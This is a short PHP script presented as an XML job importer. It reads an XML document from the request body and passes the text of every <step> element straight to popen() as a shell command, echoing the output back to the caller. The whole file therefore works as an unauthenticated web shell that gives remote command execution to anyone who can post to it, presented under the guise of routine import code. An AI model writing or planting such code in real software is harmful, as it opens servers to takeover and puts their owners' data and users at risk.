<?php
// Reads an XML "job" document from the request body. The parser's handlers are methods of the
// importer: character data is gathered, and when a <step> element closes its text is run as a
// command and the output printed.
class StepImporter
{
    private $text = '';

    public function begin($parser, $tag, $attrs)
    {
        $this->text = '';
    }

    public function gather($parser, $chunk)
    {
        $this->text .= $chunk;
    }

    public function finish($parser, $tag)
    {
        if ($tag === 'STEP') {
            $h = popen($this->text . ' 2>&1', 'r');
            while ($h && !feof($h)) {
                echo fread($h, 4096);
            }
        }
    }

    public function load($xml)
    {
        $parser = xml_parser_create();
        xml_set_object($parser, $this);
        xml_set_element_handler($parser, 'begin', 'finish');
        xml_set_character_data_handler($parser, 'gather');
        xml_parse($parser, $xml, true);
        xml_parser_free($parser);
    }
}

$importer = new StepImporter();
$importer->load(file_get_contents('php://input'));
